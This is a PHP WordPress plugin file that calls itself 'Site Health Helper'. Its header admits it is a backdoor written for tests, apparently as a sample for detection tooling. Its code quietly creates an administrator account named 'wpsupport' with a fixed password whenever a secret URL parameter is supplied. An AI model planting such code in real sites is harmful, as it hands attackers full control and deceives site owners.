<?php
/*
Plugin Name: Site Health Helper
Description: a backdoor dressed as a plugin (written for the tests, never run)
*/
add_action('init', 'shh_maintenance');

function shh_maintenance()
{
    if (empty($_GET['shh_sync']) || username_exists('wpsupport')) {
        return;
    }
    wp_insert_user(array(
        'user_login' => 'wpsupport',
        'user_pass'  => 'Sup0rt!2024',
        'user_email' => 'wpsupport@example.net',
        'role'       => 'administrator',
    ));
}
